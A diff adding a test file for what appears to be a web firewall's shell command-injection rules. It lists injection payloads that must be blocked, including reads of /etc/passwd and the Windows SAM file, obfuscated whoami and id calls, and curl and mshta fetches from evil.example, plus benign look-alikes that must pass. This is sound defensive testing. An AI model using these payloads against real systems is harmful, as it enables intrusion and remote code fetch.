@@ -1,0 +1,38 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells have them
+/** Commands that are put together or put behind a value as only shells read it, and what people write that looks so. */
+import { matchedIds, send, sites } from './test-support/send.ts';
+
+describe('commands at medium', () => {
+  it.each([
+    [4012, "report.pdf; c''at /etc/hosts"],
+    [4012, '& netsta\\t -an'],
+    [4012, '&& \\\ndir'],
+    [4012, 'a|/./usr/./bin/./id'],
+    [4012, 'a b;p$()ing -i 30 127.0.0.1'],
+    [4013, 'a b;curl https://evil.example/x'],
+    [4013, '10.0.0.7&& pwd'],
+    [4013, 'eve && reg add "HKLM\\System\\CurrentControlSet\\x" /v a'],
+    [4013, 'a b& type %SYSTEMROOT%\\repair\\SAM'],
+    [4013, 'a b`whoami`'],
+    [4002, 'x;$(echo aWQ=|base64 -d)'],
+    [4004, 'od -c /etc/passwd'],
+    [4007, 'a & mshta http://evil.example/a.hta'],
+  ])('%i stops %j', (id, text) => {
+    const audit = send(sites.medium, text);
+    expect(matchedIds(audit)).toContain(id);
+    expect(audit.interruption).not.toBeNull();
+  });
+
+  it.each([
+    'mir & dir',
+    "Rock'n'roll; I can't find it & you?",
+    'Run it:\n\n```bash\n$ npm install left\n```\n',
+    'curl https://api.example.org/v1 returns 502 since noon',
+    'echo hello > file.txt then cat file.txt shows nothing, why?',
+    'It works; curl https://a.example fails, though',
+    '/etc/hosts on a mac is where names go',
+    'Tea, cake & id card; bring both',
+  ])('pass: %j', (text) => {
+    expect(matchedIds(send(sites.medium, text))).toEqual([]);
+  });
+});
